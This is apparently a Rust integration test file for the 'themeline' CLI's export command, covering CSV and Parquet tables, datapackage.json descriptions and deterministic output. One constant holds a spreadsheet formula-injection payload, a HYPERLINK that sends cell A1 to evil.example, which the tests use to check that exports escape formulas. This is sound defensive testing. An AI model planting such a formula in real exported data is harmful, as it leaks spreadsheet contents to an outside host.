//! The tables as a user takes them elsewhere: what `datapackage.json` says of every file, and CSV.

use std::collections::BTreeMap;
use std::fs::{self, File};
use std::path::{Path, PathBuf};

use assert_cmd::Command;
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use predicates::prelude::*;
use predicates::str::contains;
use serde_json::{Value, json};
use tempfile::TempDir;

fn themeline(args: &[&str]) -> assert_cmd::assert::Assert {
    Command::cargo_bin("themeline").unwrap().env_remove("THEMELINE_MODELS").args(args).assert()
}

fn path(path: &Path) -> &str {
    path.to_str().unwrap()
}

fn json_of(file: &Path) -> Value {
    serde_json::from_slice(&fs::read(file).unwrap()).unwrap()
}

fn lines(file: &Path) -> Vec<Value> {
    let text = fs::read_to_string(file).unwrap();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click, me\")";

/// Two themes, one with a name that a spreadsheet would run.
fn codebook() -> String {
    let theme = |id: &str, name: &str, terms: &str| {
        format!("[[theme]]\nid = '{id}'\nname = '{name}'\nterms = [{terms}]\n\n")
    };
    "id = 'ours'\nname = 'Ours'\nversion = '1'\nlanguage = 'en'\n\n".to_owned()
        + &theme("ports", FORMULA, "'harbour', 'railway line'")
        + &theme("health", "Health", "'vaccines', 'training of nurses'")
}

/// Notes of two years: some dated to the day, the month or the year, some not at all; ids that look like
/// numbers and formulas; a copy, and a record that is no document.
fn notes() -> String {
    let mut lines = Vec::new();
    for k in 0..60 {
        let year = 2021 + k / 30;
        let about = match k % 10 < 2 + 6 * (k / 30) {
            true => "The two sides agreed to build a new harbour and a railway line.",
            false => "They discussed vaccines and the training of nurses.",
        };
        let date = match k % 4 {
            0 => json!(format!("{year}-03-{:02}", 1 + k % 28)),
            1 => json!(format!("{year}-04")),
            2 => json!(year.to_string()),
            _ => json!(format!("{year}-05-02")),
        };
        let text = format!("- Note {k} of the office. {about} The chair, \"Ann\", spoke last.");
        lines.push(json!({"id": format!("{k:03}"), "date": date, "text": text, "n": k}));
    }
    let mut copy = lines[0].clone();
    copy["id"] = "-copy".into();
    let text = "@once\nThe harbour has no date.\nThe railway line has none.";
    lines.extend([copy, json!({"id": "+1 no date", "text": text}), json!({"id": "no text"})]);
    lines.iter().map(|line| format!("{line}\n")).collect()
}

struct Finished {
    root: TempDir,
}

impl Finished {
    fn new() -> Finished {
        let root = TempDir::new().unwrap();
        let finished = Finished { root };
        fs::write(finished.path("notes.jsonl"), notes()).unwrap();
        fs::write(finished.path("ours.toml"), codebook()).unwrap();
        let [notes, ours, dir] = ["notes.jsonl", "ours.toml", "results"].map(|n| finished.path(n));
        let run = ["run", path(&notes), "--out", path(&dir), "--codebook", path(&ours), "--quiet"];
        let more = ["--units", "jsonl", "--max-reject-rate", "0.1"];
        themeline(&[&run[..], &more].concat()).success();
        finished
    }

    fn path(&self, name: &str) -> PathBuf {
        self.root.path().join(name)
    }

    /// Exports into `out` with these flags.
    fn export(&self, out: &str, flags: &[&str]) -> assert_cmd::assert::Assert {
        let (dir, out) = (self.path("results"), self.path(out));
        themeline(&[&["export", path(&dir), "--out", path(&out)], flags].concat())
    }

    /// The rows of an exported table, by the names of its columns.
    fn table(&self, file: &str) -> Vec<BTreeMap<String, String>> {
        let mut reader = csv::Reader::from_path(self.path(file)).unwrap();
        let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
        let row = |record: csv::StringRecord| {
            header.iter().cloned().zip(record.iter().map(str::to_owned)).collect()
        };
        reader.records().map(|record| row(record.unwrap())).collect()
    }
}

/// Resources of a package by their paths.
fn resources(package: &Value) -> BTreeMap<&str, &Value> {
    let list = package["resources"].as_array().unwrap().iter();
    list.map(|resource| (resource["path"].as_str().unwrap(), resource)).collect()
}

fn fields(resource: &Value) -> &Vec<Value> {
    resource["schema"]["fields"].as_array().unwrap()
}

fn names(resource: &Value) -> Vec<&str> {
    fields(resource).iter().map(|field| field["name"].as_str().unwrap()).collect()
}

/// Why a value does not fit a field, if it does not.
fn fault(value: &Value, field: &Value) -> Option<String> {
    let rule = |name: &str| field.get("constraints").and_then(|rules| rules.get(name));
    if value.is_null() {
        return rule("required").map(|_| "null".to_owned());
    }
    let is_of_type = match field["type"].as_str().unwrap() {
        "string" => value.is_string(),
        "integer" => value.is_u64() || value.is_i64(),
        "number" => value.is_number(),
        "boolean" => value.is_boolean(),
        "array" => value.is_array(),
        "object" => value.is_object(),
        other => panic!("unknown type {other}"),
    };
    let over = |limit: &Value| value.as_f64() > limit.as_f64();
    let under = |limit: &Value| value.as_f64() < limit.as_f64();
    let is_fit = is_of_type
        && !rule("maximum").is_some_and(over)
        && !rule("minimum").is_some_and(under)
        && rule("enum").is_none_or(|list| list.as_array().unwrap().contains(value));
    (!is_fit).then(|| format!("{value} does not fit {field}"))
}

#[test]
fn every_file_and_every_field_of_it_stands_in_the_package_and_what_it_says_is_true() {
    let finished = Finished::new();
    let dir = finished.path("results");
    let package = json_of(&dir.join("datapackage.json"));
    assert_eq!(package["$schema"], "https://datapackage.org/profiles/2.0/datapackage.json");
    assert!(package.get("created").is_none(), "a time would be another one each time");
    let resources = resources(&package);
    let files = fs::read_dir(&dir).unwrap().map(|entry| entry.unwrap().file_name());
    let mut files: Vec<String> = files.map(|name| name.into_string().unwrap()).collect();
    files.retain(|name| name != "datapackage.json");
    files.sort();
    assert_eq!(resources.keys().copied().collect::<Vec<_>>(), files);
    let run = json_of(&dir.join("run.json"));
    assert!(run["files"].as_array().unwrap().iter().any(|f| f["name"] == "datapackage.json"));

    let mut n_values = 0;
    for (&file, resource) in &resources {
        assert!(resource["description"].as_str().unwrap().len() > 20, "{file}");
        if !file.ends_with(".jsonl") {
            continue;
        }
        let rows = lines(&dir.join(file));
        assert!(!rows.is_empty(), "{file}");
        for row in rows {
            let keys: Vec<&String> = row.as_object().unwrap().keys().collect();
            assert_eq!(keys, names(resource), "{file}");
            for field in fields(resource) {
                let value = &row[field["name"].as_str().unwrap()];
                assert_eq!(fault(value, field), None, "{file} {}", field["name"]);
                n_values += 1;
            }
        }
    }
    assert!(n_values > 1000, "only {n_values} values");
    for file in ["scores.parquet", "units.parquet", "trends.parquet"] {
        let table = File::open(dir.join(file)).unwrap();
        let table = ParquetRecordBatchReaderBuilder::try_new(table).unwrap();
        let columns: Vec<&String> = table.schema().fields().iter().map(|f| f.name()).collect();
        assert_eq!(columns, names(resources[file]), "{file}");
        let described = |field: &Value| field["description"].as_str().unwrap().len() > 10;
        assert!(fields(resources[file]).iter().all(described), "{file}");
    }
}

#[test]
fn a_comparison_in_a_folder_of_its_own_is_described_and_exported_as_far_as_it_goes() {
    let finished = Finished::new();
    let (dir, out) = (finished.path("results"), finished.path("compared"));
    let before = fs::read(dir.join("datapackage.json")).unwrap();
    themeline(&["compare", path(&dir), "--by", "quarter"]).success();
    assert!(fs::read(dir.join("datapackage.json")).unwrap() == before, "the same files");
    themeline(&["compare", path(&dir), "--out", path(&out)]).success();
    let package = json_of(&out.join("datapackage.json"));
    let files: Vec<&str> = resources(&package).into_keys().collect();
    assert_eq!(files, ["report.html", "run.json", "trends.json", "trends.parquet"]);

    let csv = finished.path("csv");
    themeline(&["export", path(&out), "--out", path(&csv)]).success();
    assert!(csv.join("comparisons.csv").is_file() && !csv.join("scores.csv").exists());
    themeline(&["export", path(&out), "--out", path(&csv), "--table", "scores"])
        .code(2)
        .stderr(contains("it has no scores.parquet").and(contains("next: ")));
    assert!(csv.join("comparisons.csv").is_file(), "an export that fails replaces nothing");
}

#[test]
fn every_table_is_exported_with_the_numbers_of_its_file() {
    let finished = Finished::new();
    finished
        .export("csv", &[])
        .success()
        .stderr(contains("documents.csv").and(contains("62 rows")));
    let documents = lines(&finished.path("results/documents.jsonl"));
    let table = finished.table("csv/documents.csv");
    assert_eq!(table.len(), documents.len());
    for (row, document) in table.iter().zip(&documents) {
        let text = |value: &Value| value.as_str().map_or(String::new(), str::to_owned);
        assert_eq!(row["id"].trim_start_matches('\''), text(&document["id"]));
        assert_eq!(row["date"], text(&document["date"]));
        assert_eq!(row["none_share"], document["none"]["share"].to_string());
        let metadata: Value = serde_json::from_str(&row["metadata"]).unwrap();
        assert_eq!(metadata, document["metadata"]);
        assert!(!row.contains_key("evidence") && !row.contains_key("schema"));
    }
    let no_date = table.iter().find(|row| row["id"] == "'+1 no date").unwrap();
    assert_eq!((&*no_date["date"], &*no_date["period"]), ("", ""));

    let evidence = finished.table("csv/evidence.csv");
    let nested: Vec<(&Value, &Value)> = documents
        .iter()
        .flat_map(|d| d["evidence"].as_array().unwrap().iter().map(move |e| (&d["id"], e)))
        .collect();
    assert_eq!(evidence.len(), nested.len());
    for (row, (id, passage)) in evidence.iter().zip(nested) {
        assert_eq!(row["document"].trim_start_matches('\''), id.as_str().unwrap());
        assert_eq!(row["score"], passage["score"].to_string());
        assert_eq!(row["text"].trim_start_matches('\''), passage["text"].as_str().unwrap());
    }
    let units = lines(&finished.path("results/units.jsonl"));
    let table = finished.table("csv/units.csv");
    assert_eq!(table.len(), units.len());
    for (row, unit) in table.iter().zip(&units) {
        assert_eq!(row["start"], unit["start"].to_string());
        assert_eq!(serde_json::from_str::<Value>(&row["themes"]).unwrap(), unit["themes"]);
    }
    assert_eq!(
        finished.table("csv/scores.csv").len(),
        documents.len() * finished.table("csv/themes.csv").len()
    );
    let trends = json_of(&finished.path("results/trends.json"));
    for (file, list) in [("trends", "shares"), ("comparisons", "comparisons")] {
        let rows = finished.table(&format!("csv/{file}.csv"));
        assert_eq!(rows.len(), trends[list].as_array().unwrap().len(), "{file}");
    }
    let changes = finished.table("csv/comparisons.csv");
    let falls = changes.iter().find(|row| row["difference"].starts_with('-'));
    assert!(falls.is_some(), "a negative number is a number: no apostrophe");
    assert!(
        changes
            .iter()
            .any(|row| row["robustness_robust"] == "true" || row["robustness_robust"] == "false")
    );
    assert_eq!(finished.table("csv/rejects.csv")[0]["code"], "missing_field");
    assert_eq!(finished.table("csv/copies.csv")[0]["document"], "'-copy");
}

#[test]
fn a_theme_whose_name_is_a_formula_is_text_in_a_spreadsheet() {
    let finished = Finished::new();
    finished.export("csv", &[]).success();
    finished.export("raw", &["--raw"]).success();
    let name = |folder: &str| finished.table(&format!("{folder}/themes.csv"))[0]["name"].clone();
    assert_eq!((name("csv"), name("raw")), (format!("'{FORMULA}"), FORMULA.to_owned()));
    let sentence = &finished.table("csv/comparisons.csv")[0]["sentence"];
    assert!(sentence.starts_with("'=HYPERLINK("), "{sentence}");
    let mut n_guarded = 0;
    for entry in fs::read_dir(finished.path("csv")).unwrap() {
        let file = entry.unwrap().path();
        if file.extension().is_some_and(|extension| extension == "csv") {
            let text = fs::read_to_string(&file).unwrap();
            assert!(text.contains("\r\n") && !text.starts_with('\u{feff}'));
            for record in csv::Reader::from_reader(text.as_bytes()).records() {
                for cell in record.unwrap().iter() {
                    let is_number = cell.parse::<f64>().is_ok() && !cell.starts_with('+');
                    assert!(
                        is_number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "{cell}"
                    );
                    n_guarded += usize::from(cell.starts_with('\''));
                }
            }
        }
    }
    assert!(n_guarded > 10, "only {n_guarded} cells");
}

#[test]
fn an_export_is_described_and_the_same_each_time() {
    let finished = Finished::new();
    finished.export("csv", &[]).success();
    finished.export("again", &[]).success();
    let package = json_of(&finished.path("csv/datapackage.json"));
    for (file, resource) in resources(&package) {
        let bytes = fs::read(finished.path("csv").join(file)).unwrap();
        assert!(bytes == fs::read(finished.path("again").join(file)).unwrap(), "{file}");
        let mut reader = csv::Reader::from_reader(&bytes[..]);
        let header: Vec<&str> = reader.headers().unwrap().iter().collect();
        assert_eq!(header, names(resource), "{file}");
        let described = |field: &Value| field["description"].as_str().unwrap().len() > 10;
        assert!(fields(resource).iter().all(described), "{file}");
        assert_eq!(resource["schema"]["missingValues"], json!([""]));
    }
    // In the folder of the corpus, an export is no input.
    let mixed = finished.path("");
    themeline(&["run", path(&mixed), "--dry-run", "--out", "unused"])
        .success()
        .stdout(contains("1 files would be read").and(contains("notes.jsonl")));
}

#[test]
fn tables_are_chosen_by_name_and_nothing_of_others_is_replaced() {
    let finished = Finished::new();
    let two = ["--table", "scores", "--table", "change_points", "--table", "scores"];
    finished.export("csv", &two).success();
    let names = |folder: &str| {
        let files = fs::read_dir(finished.path(folder)).unwrap();
        let mut names: Vec<_> =
            files.map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
        names.sort();
        names
    };
    assert_eq!(names("csv"), ["change_points.csv", "datapackage.json", "scores.csv"]);
    finished.export("csv", &["--table", "units"]).success();
    assert_eq!(names("csv"), ["datapackage.json", "units.csv"]);
    finished.export("csv", &["--table", "sums"]).code(2);

    fs::write(finished.path("csv/scores.csv"), "mine").unwrap();
    finished.export("csv", &[]).code(2).stderr(contains("scores.csv").and(contains("next: ")));
    assert_eq!(fs::read_to_string(finished.path("csv/scores.csv")).unwrap(), "mine");
    finished.export("results", &[]).code(2).stderr(contains("nothing was written there"));
    finished.export("notes.jsonl", &[]).code(2).stderr(contains("is a file"));
    let (dir, out) = (finished.path("csv"), finished.path("no"));
    themeline(&["export", path(&dir), "--out", path(&out)])
        .code(2)
        .stderr(contains("has no run.json"));
    assert!(!out.exists());
}
